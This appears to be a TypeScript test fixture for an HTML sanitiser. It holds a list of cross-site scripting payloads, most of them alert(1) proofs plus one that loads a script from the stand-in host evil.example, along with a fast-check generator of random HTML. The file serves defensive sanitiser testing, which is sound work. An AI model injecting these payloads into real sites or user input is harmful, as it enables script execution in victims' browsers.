import fc from 'fast-check'

/** Ways to get a script past a sanitiser, after OWASP's cheat sheet and the mutations that DOMPurify was once open to. */
export const hostileHtml: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT >',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; java&#x0A;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a href=\'https://a.example/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://a.example" href="javascript:alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
  '<p/onclick=alert(1)//>x</p>',
  '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '</p<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<x onfocus=alert(1) tabindex=0 autofocus>',
  '<\0script>alert(1)</\0script>',
  '<b <script>alert(1)</script>0',
  '<<script>alert(1);//<</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<table><td><a href="javascript:x">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror="alert(1)" />',
  '<select><template><style></select><img src=x onerror=alert(1)></template>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="java&Tab;script:alert(1)">x</a><a href="\x01javascript:alert(1)">x</a>',
  '<a href="mailto:a@b.c?subject=&quot;><img src=x onerror=alert(1)>">x</a>',
  '<a href="https://a.example/<img src=x onerror=alert(1)>">x</a>',
  '<a/href="https://a.example/"/onclick=alert(1)>x</a><a =href="x" "href=javascript:alert(1)>x</a>',
]

const piece = fc.constantFrom(
  ...'<p> </p> <b> </b> <a\u0020href="https://x"> <a\u0020href=javascript:x> </a> <ul> <li> </li> </ul> <table> <tr> <td> </td> </tr> </table> <div> </div> <br> <hr>'.split(
    ' ',
  ),
  ...'<script> </script> <svg> <style> <!-- --> <![CDATA[ ]]> < > " \' / = & &lt; &#60; <h1> </h1> <blockquote> text </ <? <a href= onclick=x'.split(
    ' ',
  ),
)

/** HTML of tags, halves of tags and other text in any order. */
export const anyHtml = fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }).map((pieces) => pieces.join(''))
